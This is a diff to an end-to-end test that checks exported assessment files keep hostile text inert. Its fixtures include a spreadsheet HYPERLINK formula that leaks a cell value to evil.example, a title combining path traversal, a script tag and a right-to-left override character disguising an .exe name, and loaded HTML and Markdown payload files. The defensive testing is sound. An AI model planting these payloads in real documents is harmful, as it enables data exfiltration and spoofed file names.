@@ -15,10 +15,12 @@ import { pdfPages } from '../support/text.ts';
 const HTML = readFileSync('e2e/fixtures/bad/html-payloads.txt', 'utf8').replaceAll('\0', '').trim();
 const MARKDOWN = readFileSync('e2e/fixtures/bad/markdown-payloads.md', 'utf8').trim();
 const FORMULA = '=HYPERLINK("https://evil.example?leak="&A1,"click")';
-const TITLE = '../../CON: <script>alert(1)</script> =1+1 \u202Efdp.exe';
+const TITLE = '../../CON: <script>alert(1)</script> =1+1 fdp.exe';
+/** A sign that turns round what follows it: names lose it when they are read. */
+const TURNED_TITLE = TITLE.replace('fdp', '\u202Efdp');
 /** What every format must hold: in the note of an answer, in the name of a stack, in a title. */
 const DOCUMENT = assessmentDocument('nasty', {
-  title: TITLE,
+  title: TURNED_TITLE,
   reviewBy: '2027-05-01',
   profile: { clients: { kind: 'choices', choices: ['several'], note: HTML, owner: FORMULA } },
   candidates: [
@@ -102,7 +104,10 @@ test('the nastiest texts stay texts in every file for the team, each opened by a
   }
   expect(names.filter((name) => !/^docs\/decisions\/[a-z0-9-]+\.md$/.test(name))).toEqual([]);
 
-  expect(JSON.parse(readFileSync(path('Assessment file'), 'utf8'))).toMatchObject(DOCUMENT);
+  expect(JSON.parse(readFileSync(path('Assessment file'), 'utf8'))).toMatchObject({
+    ...DOCUMENT,
+    title: TITLE,
+  });
   expect(JSON.parse(readFileSync(path('Result'), 'utf8')).candidates[0].name).toBe(FORMULA);
 
   const pages = letters((await pdfPages(path('PDF'))).join(' '));
